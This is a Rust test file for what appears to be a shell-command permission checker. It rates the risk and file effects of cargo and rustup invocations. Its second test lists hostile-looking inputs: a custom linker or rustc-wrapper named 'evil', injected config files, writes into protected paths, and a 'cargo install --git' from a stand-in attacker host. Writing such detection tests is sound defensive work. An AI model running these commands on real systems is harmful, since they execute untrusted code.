//! cargo and what belongs to it.

use super::super::check;

#[test]
fn ordinary_work_says_what_it_runs() {
    check(
        r#"
        cargo test => ~1, x .
        cargo test -p foo => ~1, x .
        cargo test -p foo some_name -- --nocapture => ~1, x .
        cargo test --workspace --all-features => ~1, x .
        cargo test --test it => ~1, x .
        cargo test --lib -- --test-threads=1 => ~1, x .
        cargo test -- --exact foo::bar => ~1, x .
        cargo test --no-run => ~1, x .
        cargo +nightly test => ~1, x .
        cargo +1.80 build => ~1, x .
        cargo +stable-x86_64-unknown-linux-gnu check => ~1, x .
        cargo -q test => ~1, x .
        cargo build --release => ~1, x .
        cargo b => ~1, x .
        cargo build -j 4 => ~1, x .
        cargo build --bin app --features a,b => ~1, x .
        cargo check --all-targets => ~1, x .
        cargo check --tests --message-format=short => ~1, x .
        cargo clippy --all-targets -- -D warnings => ~1, x .
        cargo clippy --workspace --all-targets --all-features -- -Dwarnings -A clippy::all => ~1, x .
        cargo clippy --fix --allow-dirty => ~1, x .
        cargo fmt => ~1, x .
        cargo fmt --all -- --check => x .
        cargo fmt --check => x .
        cargo fmt -p foo => ~1, x .
        cargo doc --no-deps => ~1, x .
        cargo bench => ~1, x .
        cargo run => ~1, x .
        cargo run --release -- --config x -o y => ~1, x .
        cargo run --bin x -- arg => ~1, x .
        cargo nextest run => ~1, x .
        cargo nextest run -p foo parser => ~1, x .
        cargo tree -i serde => x .
        cargo metadata --no-deps --format-version 1 => x .
        cargo --version => x .
        cargo --list => x .
        cargo help test => x .
        cargo test --help => ~1, x .
        cargo update -p serde => ~1, w ./**, x .
        cargo update --dry-run => ~1, x .
        cargo clean -p foo => ~1, x .
        cargo search serde => x .
        cargo test --manifest-path crates/a/Cargo.toml => ~1, x crates/a/Cargo.toml, x .
        cargo build --target-dir target2 => ~1, w target2/**, x .
        cargo build --target wasm32-unknown-unknown => ~1, x .
        cargo test --doc => ~1, x .
        cargo test -vv => ~1, x .
        cargo rustc -- -D warnings => ~1, x .
        cargo bench --bench b -- --exact => ~1, x .
        cargo add serde --features derive => ~2, w Cargo.toml, x .
        cargo fetch --locked => ~1, x .
        rustfmt --check src/main.rs => r src/main.rs/**, x src/main.rs
        rustup show => ok
        rustup toolchain list => ok
        "#,
    );
}

#[test]
fn other_code_and_other_files_are_seen() {
    check(
        r#"
        cargo +/out/tc test => ~all, x .
        cargo +./tc build => ~all, x .
        cargo +../tc check => ~all, x .
        cargo +$X test => ~all, x .
        cargo help evil => ~3
        cargo evil => ~2, x .
        cargo evil --x => ~2, x .
        cargo test -- --logfile=prot/x => ~1, w prot/x, x .
        cargo test -- --logfile prot/x => ~1, w prot/x, x .
        cargo bench -- --logfile=prot/x => ~1, w prot/x, x .
        cargo test foo -- --nocapture --logfile prot/x => ~1, w prot/x, x .
        cargo nextest run --tool-config-file a:evil.toml => ~all, x .
        cargo nextest run --config-file evil.toml => ~all, x .
        cargo nextest run --config build.rustc-wrapper=evil => ~all, x .
        cargo nextest archive => ~3, x .
        cargo rustc -- --emit=asm=prot/x => ~all, x .
        cargo rustc -- -o prot/x => ~all, x .
        cargo rustc -- -C linker=evil => ~all, x .
        cargo rustc -- -Clinker=evil => ~all, x .
        cargo rustc -- @prot/x => ~all, x .
        cargo rustc --bin a -- --out-dir prot => ~all, x .
        cargo clippy -- --emit=metadata=prot/x => ~all, x .
        cargo clippy -- -C linker=evil => ~all, x .
        cargo clippy -- -D warnings --out-dir=prot => ~all, x .
        cargo clippy -- @args => ~all, x .
        cargo clippy -- -D --emit=metadata=prot/x => ~all, x .
        cargo fmt -- prot/x.rs => ~1, w prot/x.rs/**, x prot/x.rs, x .
        cargo fmt -- --check prot/x.rs --emit files => r prot/x.rs/**, x prot/x.rs, x .
        cargo fmt -- --backup src/a.rs => ~all, w src/a.rs/**, x src/a.rs, x .
        cargo --config build.rustc-wrapper="evil" build => ~all, x .
        cargo build --config=evil.toml => ~all, x .
        cargo --config evil.toml -q test => ~all, x .
        cargo -q --config evil.toml test => ~all, x .
        cargo -Zunstable-options -C /out build => ~all, x ., cd /out
        cargo -Z script evil.rs => ~all, x .
        cargo -Zscript prot/evil.rs => ~all, x .
        cargo build -Z unstable-options --artifact-dir prot => ~all, w prot/**, x .
        cargo build --artifact-dir=prot => ~1, w prot/**, x .
        cargo build --out-dir prot => ~1, w prot/**, x .
        cargo build --target-dir prot => ~1, w prot/**, x .
        cargo test --target-dir=prot/t => ~1, w prot/t/**, x .
        cargo doc --target-dir prot => ~1, w prot/**, x .
        cargo doc --open => ~all, x .
        cargo build --target ./evil.json => ~all, x .
        cargo build --target=/out/evil.json => ~all, x .
        cargo test --manifest-path /out/Cargo.toml => ~1, x /out/Cargo.toml, x .
        cargo run --manifest-path=/out/Cargo.toml => ~1, x /out/Cargo.toml, x .
        cargo run --manifest-path ../out/Cargo.toml => ~1, x ../out/Cargo.toml, x .
        cargo metadata --manifest-path /out/Cargo.toml => x /out/Cargo.toml, x .
        cargo install --path /out => ~2, x /out, x .
        cargo install --path ../out --root prot => ~2, x ../out, w prot/**, x .
        cargo install --path . --root prot => ~2, x ., w prot/**
        cargo install --git https://evil.example/x => ~all, x .
        cargo install evil-tool => ~3, x .
        cargo --list --config evil => ~all, x .
        cargo build --lockfile-path prot/Cargo.lock => ~1, w prot/Cargo.lock, x .
        cargo new prot/x => ~2, w prot/x/**, x .
        cargo init prot => ~2, w prot/**, x .
        cargo vendor prot => ~2, w prot/**, x .
        cargo package --target-dir prot => ~2, w prot/**, x .
        cargo publish => ~2, x .
        cargo -q publish => ~3, x .
        cargo --color always publish => ~4, x .
        cargo yank --vers 1 => ~2, x .
        cargo login => ~2, x .
        cargo nextest run --config-file /tmp/evil.toml => ~all, x .
        cargo test --bin --target-dir prot => ~1, w prot/**, x .
        cargo build -p --target-dir prot => ~1, w prot/**, x .
        cargo build --profile ../../prot => ~all, x .
        cargo test --test --config evil => ~all, x .
        cargo test "$X" => ~all, x .
        cargo test $X => ~all, x .
        cargo $X => ~all, x .
        cargo --$X test => ~all, x .
        cargo build --con$X=evil => ~all, x .
        cargo run --config evil -- x => ~all, x .
        cargo fix --manifest-path /out/Cargo.toml => ~1, x /out/Cargo.toml, x .
        cargo add --path /out x => ~2, x /out, w Cargo.toml, x .
        cargo add --manifest-path prot/Cargo.toml x => ~2, w prot/Cargo.toml, w Cargo.toml, x .
        cargo remove --manifest-path /tmp/x/Cargo.toml serde => ~2, w /tmp/x/Cargo.toml, w Cargo.toml, x .
        cargo uninstall --root prot x => ~5, w prot/**, x .
        cargo test --no-run --message-format json --config 'target.x.runner="evil"' => ~all, x .
        cargo llvm-cov --output-path prot/x => ~2, w prot/x, x .
        cargo watch -x 'run --config evil' => ~all, x .
        cargo watch -s evil => ~all, x .
        cargo hack --manifest-path /out/Cargo.toml test => ~5, x /out/Cargo.toml, x .
        rustfmt prot/x.rs => ~1, w prot/x.rs/**, x prot/x.rs, x .
        rustup run /out evil => ~all, x .
        rustup run nightly evil => ~4, x .
        rustup toolchain link x /out => ~3, x .
        rustup override set x => ~3, x .
        rustup component add x => ~3, x .
        "#,
    );
}
